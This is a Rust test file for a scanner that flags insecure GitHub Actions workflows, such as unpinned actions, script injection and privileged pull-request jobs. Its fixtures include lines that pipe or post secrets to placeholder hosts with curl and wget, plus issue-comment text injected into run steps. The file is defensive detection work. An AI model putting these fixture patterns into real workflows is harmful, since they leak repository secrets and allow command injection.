use super::*;

fn ids(out: &Extracted) -> Vec<&str> {
    out.notices.iter().map(|n| n.rule_id.as_str()).collect()
}

#[test]
fn run_steps_with_shells_positions_and_templates() {
    let src = "name: ci\non:\n  push:\n  pull_request:\ndefaults:\n  run:\n    shell: bash\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - name: Install\n        run: |\n          npm ci\n          rm -rf ${{ runner.temp }}/cache\n      - run: print('hi')\n        shell: python\n  win:\n    runs-on: windows-latest\n    steps:\n      - run: Remove-Item -Recurse build\n";
    let out = extract_workflow(src);
    assert!(out.notices.is_empty(), "{:?}", out.notices);
    assert_eq!(out.snippets.len(), 3);
    let s = &out.snippets[0];
    assert_eq!(s.context, "job build, step \"Install\"");
    assert_eq!(s.text, "npm ci\nrm -rf ${TPL_RUNNER_TEMP}/cache\n");
    assert_eq!(s.lines[..2], [(15, 11), (16, 11)]);
    assert_eq!(s.lang, SnippetLang::Shell);
    assert_eq!(s.name.as_deref(), Some("build"));
    assert_eq!(out.snippets[1].lang, SnippetLang::Code(Language::Python));
    assert_eq!(out.snippets[1].start(), (17, 14));
    // the workflow's `defaults.run.shell: bash` holds on Windows runners too
    assert_eq!(out.snippets[2].lang, SnippetLang::Shell);
    let win = extract_workflow(
        "on: push\njobs:\n  w:\n    runs-on: [self-hosted, windows]\n    steps:\n      - run: dir\n",
    );
    assert_eq!(win.snippets[0].lang, SnippetLang::PowerShell);
}

#[test]
fn unpinned_actions_by_owner() {
    let src = "on: push\njobs:\n  a:\n    uses: org/repo/.github/workflows/reuse.yml@main\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n      - uses: docker://alpine:3\n      - uses: ./local\n";
    let out = extract_workflow(src);
    assert_eq!(
        ids(&out),
        vec![
            "gha.action-branch",
            "gha.action-unpinned-github",
            "gha.action-unpinned"
        ]
    );
    assert_eq!((out.notices[0].line, out.notices[0].column), (4, 11));
    assert_eq!(out.notices[1].matched, "actions/setup-node@v4");
}

#[test]
fn untrusted_event_text_in_scripts() {
    let src = "on: [issue_comment]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ok\n          echo \"${{ github.event.comment.body }}\"\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: console.log(\"${{ github.event.issue.title }}\")\n      - if: github.event.comment.body == 'x'\n        run: echo ${{ github.event.issue.number }} ${{ github.event.inputs.name }}\n";
    let out = extract_workflow(src);
    assert_eq!(ids(&out), vec!["gha.event-in-run", "gha.event-in-run"]);
    assert_eq!((out.notices[0].line, out.notices[0].column), (8, 17));
    assert!(
        out.snippets
            .iter()
            .any(|s| s.lang == SnippetLang::Code(Language::Js))
    );
}

#[test]
fn pull_request_target_with_head_checkout_once_per_job() {
    let src = "on:\n  pull_request_target:\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n      - run: gh pr checkout 1\n";
    let out = extract_workflow(src);
    // at the checkout, and at the trigger that hands the fork's code the secrets
    assert_eq!(
        ids(&out),
        vec!["gha.pr-target-checkout", "gha.pr-target-checkout"]
    );
    assert_eq!(out.notices[0].line, 9);
    assert_eq!((out.notices[1].line, out.notices[1].column), (2, 3));
}

#[test]
fn comment_commands_through_step_outputs_and_env_dumps() {
    let src = "on: issue_comment
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: cmd
        run: echo \"cmd=${{ github.event.comment.body }}\" >> \"$GITHUB_OUTPUT\"
      - run: make ${{ steps.cmd.outputs.cmd }}
      - run: env | sort > env.txt
      - uses: actions/upload-artifact@v4
";
    let out = extract_workflow(src);
    let lines: Vec<(&str, u32)> = out
        .notices
        .iter()
        .map(|n| (n.rule_id.as_str(), n.line))
        .collect();
    assert!(lines.contains(&("gha.event-in-run", 7)), "{lines:?}");
    assert!(lines.contains(&("gha.event-in-run", 8)), "{lines:?}");
    assert!(lines.contains(&("gha.env-dump-uploaded", 9)), "{lines:?}");
}

#[test]
fn secrets_printed_or_sent() {
    let src = "on: push\nenv:\n  TOKEN: ${{ secrets.T }}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo $TOKEN | base64\n      - run: echo \"$TOKEN\" | docker login -u me --password-stdin\n      - run: echo ${{ secrets.X }} >> $GITHUB_ENV\n      - run: curl -d @- https://x.example < /dev/null; echo $TOKEN | curl -T - https://up.example\n      - run: wget --post-data=\"k=${{ secrets.X }}\" https://x.example\n      - run: curl -u \"me:$TOKEN\" https://api.example.com\n";
    let out = extract_workflow(src);
    let lines: Vec<(&str, u32)> = out
        .notices
        .iter()
        .map(|n| (n.rule_id.as_str(), n.line))
        .collect();
    assert_eq!(
        lines,
        vec![
            ("gha.secret-echoed", 8),
            ("gha.secret-sent", 11),
            ("gha.secret-sent", 12)
        ]
    );
}

#[test]
fn write_all_and_bad_yaml() {
    let out = extract_workflow("on: push\npermissions: write-all\njobs: {}\n");
    assert_eq!(ids(&out), vec!["gha.permissions-write-all"]);
    let bad = extract_workflow("on: push\njobs:\n  a: [\n");
    assert_eq!(ids(&bad), vec!["repo.not-analyzed"]);
    assert!(bad.notices[0].line >= 3);
}

#[test]
fn composite_actions() {
    let src = "name: x\nruns:\n  using: composite\n  steps:\n    - run: ./install.sh\n      shell: bash\n    - uses: other/act@v1\n";
    let out = extract_action(src);
    assert_eq!(out.snippets.len(), 1);
    assert_eq!(out.snippets[0].text, "./install.sh");
    assert_eq!(ids(&out), vec!["gha.action-unpinned"]);
}

#[test]
fn untrusted_expressions() {
    assert!(checks::is_untrusted("github.event.pull_request.title"));
    assert!(checks::is_untrusted("github.event.pull_request.head.ref"));
    assert!(checks::is_untrusted("github.head_ref"));
    assert!(checks::is_untrusted(
        "format('{0}', github.event.commits[0].message)"
    ));
    assert!(!checks::is_untrusted("github.event.pull_request.head.sha"));
    assert!(!checks::is_untrusted("github.event.inputs.version"));
    assert!(!checks::is_untrusted("github.sha"));
    assert!(!checks::is_untrusted("github.event.pull_request.number"));
}

fn at(out: &Extracted, rule: &str) -> Vec<u32> {
    out.notices
        .iter()
        .filter(|n| n.rule_id == rule)
        .map(|n| n.line)
        .collect()
}

#[test]
fn privileged_jobs_that_run_the_outsiders_code() {
    let head = "on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: npm ci
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci --ignore-scripts
      - run: |
          gh pr comment 1 --body hi
          yarn build
          python setup.py sdist
          ./scripts/deploy.sh
          npm --version
";
    // before the checkout the tree is the base's; after it, installs with scripts, builds and
    // the checkout's scripts run the pull request's code
    assert_eq!(
        at(&extract_workflow(head), "gha.privileged-runs-pr-code"),
        [13, 14, 15]
    );
    let unprivileged = head.replace("pull_request_target", "pull_request");
    assert!(
        at(
            &extract_workflow(&unprivileged),
            "gha.privileged-runs-pr-code"
        )
        .is_empty()
    );
    let base = head.replace("${{ github.event.pull_request.head.sha }}", "main");
    assert!(at(&extract_workflow(&base), "gha.privileged-runs-pr-code").is_empty());
    let artifact = "on:
  workflow_run:
    workflows: [CI]
    types: [completed]
jobs:
  r:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/download-artifact@v4
        with:
          run-id: ${{ github.event.workflow_run.id }}
      - run: |
          cat summary.txt
          chmod +x ./report.sh
          bash report.sh
";
    assert_eq!(
        at(&extract_workflow(artifact), "gha.privileged-runs-pr-code"),
        [15]
    );
}

#[test]
fn the_outsiders_code_in_a_directory_of_its_own() {
    // the base's tools run on the pull request's files checked out into pr/: only what works
    // in pr/ runs its code
    let src = "on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
          path: ./pr/
      - run: npm ci && node scripts/lint.js --dir pr
      - run: cd pr && npm ci
      - run: make test
        working-directory: pr
";
    assert_eq!(
        at(&extract_workflow(src), "gha.privileged-runs-pr-code"),
        [11, 11, 12, 13]
    );
    let no_mention = src.replace(" --dir pr", "");
    assert_eq!(
        at(
            &extract_workflow(&no_mention),
            "gha.privileged-runs-pr-code"
        ),
        [12, 13]
    );
}

#[test]
fn secrets_written_into_uploaded_files() {
    let src = "on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      TOKEN: ${{ secrets.TOKEN }}
    steps:
      - run: |
          echo \"A=${{ secrets.A }}\" >> out/creds.env
          echo \"B=$TOKEN\" | tee debug.log
          echo \"C=${{ secrets.C }}\" > \"$RUNNER_TEMP/c.env\"
          echo \"plain\" >> out/notes.txt
      - uses: actions/upload-artifact@v4
        with:
          path: |
            out/
            *.log
";
    let out = extract_workflow(src);
    assert_eq!(at(&out, "gha.secret-uploaded"), [9, 10]);
    let not_uploaded = src.replace(
        "            out/\n            *.log\n",
        "            dist/\n",
    );
    assert!(at(&extract_workflow(&not_uploaded), "gha.secret-uploaded").is_empty());
    assert!(untrusted::uploads_file("./logs/**/*.log", "logs/a/b.log"));
    assert!(untrusted::uploads_file(
        "${GITHUB_WORKSPACE}/creds.env",
        "./creds.env"
    ));
    assert!(!untrusted::uploads_file("logs/*.txt", "logs/a.log"));
    assert!(!untrusted::uploads_file("!creds.env", "creds.env"));
}

#[test]
fn step_outputs_are_tainted_only_by_what_they_carry() {
    let wf = |script: &str, env: &str| {
        format!(
            "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - id: c\n{env}        run: |\n{script}      - run: gh issue edit 1 --add-label \"${{{{ steps.c.outputs.label }}}}\"\n"
        )
    };
    let tainted = |script: &str, env: &str| {
        let out = extract_workflow(&wf(script, env));
        out.notices
            .iter()
            .any(|n| n.rule_id == "gha.event-in-run" && n.matched.contains("steps.c"))
    };
    // the title is read, but what reaches the outputs is a constant
    let constant = "          TITLE=\"${{ github.event.issue.title }}\"\n          if echo \"$TITLE\" | grep -qi crash; then echo \"label=bug\" >> \"$GITHUB_OUTPUT\"; fi\n";
    assert!(!tainted(constant, ""));
    let through_var = "          SLUG=$(echo \"${{ github.event.issue.title }}\" | tr ' ' '-')\n          L=\"x-$SLUG\"\n          echo \"label=$L\" >> \"$GITHUB_OUTPUT\"\n";
    assert!(tainted(through_var, ""));
    let direct = "          echo \"label=${{ github.event.issue.title }}\" >> $GITHUB_OUTPUT\n";
    assert!(tainted(direct, ""));
    let env = "        env:\n          T: ${{ github.event.issue.title }}\n";
    assert!(tainted(
        "          echo \"label=$T\" >> \"$GITHUB_OUTPUT\"\n",
        env
    ));
    assert!(!tainted(
        "          echo \"label=$TX\" >> \"$GITHUB_OUTPUT\"\n",
        env
    ));
}

#[test]
fn interpreter_shells_are_read_as_their_one_liners() {
    let src = "on: push
jobs:
  d:
    runs-on: ubuntu-latest
    steps:
      - shell: julia --project=docs --color=yes {0}
        run: |
          using Pkg
          Pkg.add(\"Documenter\")
      - shell: Rscript {0}
        run: rmarkdown::render('README.Rmd')
      - shell: mytool {0}
        run: echo hi
";
    let out = extract_workflow(src);
    let texts: Vec<&str> = out.snippets.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            "julia --project=docs --color=yes -e 'using Pkg\nPkg.add(\"Documenter\")\n'",
            "Rscript -e 'rmarkdown::render('\\''README.Rmd'\\'')'",
            "echo hi",
        ]
    );
    assert_eq!(out.snippets[0].start(), (8, 11));
}
